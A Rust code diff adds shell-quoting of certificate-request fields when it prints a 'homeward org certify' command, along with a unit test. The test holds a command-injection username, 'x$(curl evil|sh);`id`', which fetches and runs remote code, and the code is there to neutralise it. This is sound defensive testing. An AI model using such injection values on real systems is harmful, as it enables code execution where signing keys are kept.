@@ -324,6 +324,50 @@ pub struct CertificateRequest {
     pub identity: String,
 }
 
+impl CertificateRequest {
+    /// The `homeward org certify` line to run on the organisation's (or, for an operator, the
+    /// desk organisation's) offline machine. Every value is shell-quoted: a username or an id
+    /// edited in the database must not run code where the organisation's signing key lives.
+    /// `None` if a value cannot be quoted at all (it holds a NUL).
+    pub fn command(&self, operator: bool) -> Option<String> {
+        let words: Vec<&str> = if operator {
+            vec![
+                "homeward",
+                "org",
+                "certify",
+                "--operator",
+                "--signing-key",
+                "DESK-ORGANISATION.key",
+                "--account",
+                &self.account,
+                "--username",
+                &self.username,
+                "--identity",
+                &self.identity,
+            ]
+        } else {
+            vec![
+                "homeward",
+                "org",
+                "certify",
+                "--signing-key",
+                "ORGANISATION.key",
+                "--organisation",
+                &self.organisation,
+                "--account",
+                &self.account,
+                "--username",
+                &self.username,
+                "--role",
+                &self.role,
+                "--identity",
+                &self.identity,
+            ]
+        };
+        shlex::try_join(words).ok()
+    }
+}
+
 pub async fn certificate_request(
     store: &Store,
     who: &Principal,
@@ -650,5 +694,37 @@ pub async fn operator_standing(chain: Chain<'_>, who: &Principal) -> Result<(), 
             }
         }
         _ => Err(WorkspaceError::Uncertified(Gap::NotCertified)),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::CertificateRequest;
+
+    #[test]
+    fn the_printed_command_runs_nothing_an_edited_username_holds() {
+        let request = CertificateRequest {
+            organisation: "partner".into(),
+            account: "a1".into(),
+            username: "x$(curl evil|sh);`id`'\"".into(),
+            role: "coordinator".into(),
+            identity: "hwiv1.abc".into(),
+        };
+        for operator in [false, true] {
+            let command = request.command(operator).unwrap_or_default();
+            let words = shlex::split(&command).unwrap_or_default();
+            let at = words.iter().position(|w| w == "--username");
+            assert_eq!(
+                at.and_then(|i| words.get(i + 1)).map(String::as_str),
+                Some(request.username.as_str()),
+                "{command}"
+            );
+            assert_eq!(words.first().map(String::as_str), Some("homeward"));
+        }
+        let nul = CertificateRequest {
+            username: "a\0b".into(),
+            ..request
+        };
+        assert_eq!(nul.command(false), None);
     }
 }
